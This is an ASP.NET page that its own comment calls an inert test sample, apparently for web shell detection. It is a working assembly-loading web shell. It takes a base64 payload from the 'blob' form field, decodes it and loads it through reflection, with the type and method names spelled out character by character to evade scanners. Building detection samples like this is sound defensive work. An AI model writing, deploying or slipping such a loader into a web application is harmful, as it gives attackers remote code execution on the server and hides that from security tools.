<%@ Page Language="C#" %>
<%-- test sample (inert): the loader's type and method names are spelled out letter by letter
     (new string(new char[] {...})), the call is made by name through Type.InvokeMember inside a
     local delegate, so neither "Assembly.Load" nor a byte[] GetMethod appears in the text --%>
<%
try {
    Func<string, byte[]> unwrap = s => Convert.FromBase64String(s);
    var kind = Type.GetType(new string(new char[] { 'S', 'y', 's', 't', 'e', 'm', '.', 'R', 'e', 'f', 'l', 'e', 'c', 't', 'i', 'o', 'n', '.', 'A', 's', 's', 'e', 'm', 'b', 'l', 'y' }));
    Func<byte[], object> bring = raw => kind.InvokeMember(new string(new char[] { 'L', 'o', 'a', 'd' }),
        System.Reflection.BindingFlags.InvokeMethod, null, null, new object[] { raw });
    var part = unwrap(Request.Form["blob"]);
    var unit = bring(part);
    Session["unit"] = unit;
} catch (Exception) { }
%>
